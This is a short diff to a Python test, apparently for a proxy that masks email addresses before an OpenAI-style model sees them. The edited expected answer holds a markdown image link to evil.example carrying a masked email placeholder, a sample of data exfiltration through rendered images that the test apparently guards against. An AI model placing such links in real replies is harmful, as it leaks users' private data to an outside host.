@@ -582,7 +582,7 @@ def test_openais_client_gets_values_that_the_model_never_saw(serve, fake, kit, v
         else:
             said = answer.choices[0].message.content
     assert contents(fake.asked[0].json) == ["mail [EMAIL_1]"]
-    assert said == "I wrote to jo@example.com and [EMAIL_3]: ![x](https://evil.example/[EMAIL_1]) [EMAIL_2]"
+    assert said == "I wrote to jo@example.com and [EMAIL_2]: ![x](https://evil.example/[EMAIL_1]) [EMAIL_2]"
 
 
 @pytest.mark.parametrize("streamed", [False, True])
